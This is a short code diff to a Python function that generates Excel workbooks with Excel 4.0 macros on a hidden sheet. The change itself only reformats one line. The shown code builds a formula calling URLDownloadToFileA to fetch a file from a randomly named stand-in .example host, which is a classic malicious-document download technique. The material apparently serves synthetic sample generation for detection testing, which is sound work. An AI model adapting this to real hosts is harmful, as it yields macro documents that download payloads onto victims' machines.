@@ -30,9 +30,7 @@ _VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
 
 def workbook_xls(dice: Dice) -> bytes:
     """Excel 4.0 macros on a hidden sheet."""
-    target = (
-        f"http://{invented_name(dice)}.example/{dice.hex(dice.between(4, 12))}.{dice.pick(('dat', 'gif', 'png', 'html'))}"
-    )
+    target = f"http://{invented_name(dice)}.example/{dice.hex(dice.between(4, 12))}.{dice.pick(('dat', 'gif', 'png', 'html'))}"
     download = biff8.Formula(
         biff8.CALL, ("urlmon", "URLDownloadToFileA", "JJCCJJ", 0, target, f"C:\\{invented_name(dice)}.invalid\\x", 0, 0)
     )
